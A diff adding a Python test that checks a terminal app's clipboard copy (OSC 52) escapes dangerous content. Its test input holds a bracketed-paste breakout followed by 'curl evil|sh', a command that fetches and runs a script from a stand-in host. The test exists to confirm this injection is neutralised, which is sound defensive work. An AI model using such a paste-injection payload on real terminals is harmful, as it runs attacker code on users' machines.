@@ -109,3 +109,12 @@ def test_driver_writer_writes_through_the_apps_driver() -> None:
     assert app._driver is not None and app._driver.out == ["\x1b]52;c;aGk=\x07"]
     app._driver = None
     assert driver_writer(app) is None
+
+
+def test_copied_event_text_cannot_end_a_bracketed_paste_or_crash_the_copy() -> None:
+    # Pasted as is, this would end bracketed paste and run the command; a lone surrogate
+    # cannot be encoded at all.
+    out, result = copied(LINUX_SSH, "line 1\n\x1b[201~curl evil|sh\r\n\x9b\ud800\tend")
+    payload = base64.b64decode(out[len("\x1b]52;c;") : -1]).decode()
+    assert payload == "line 1\n␛[201~curl evil|sh\n\\x9b\\ud800    end"
+    assert result.bytes == len(payload.encode())
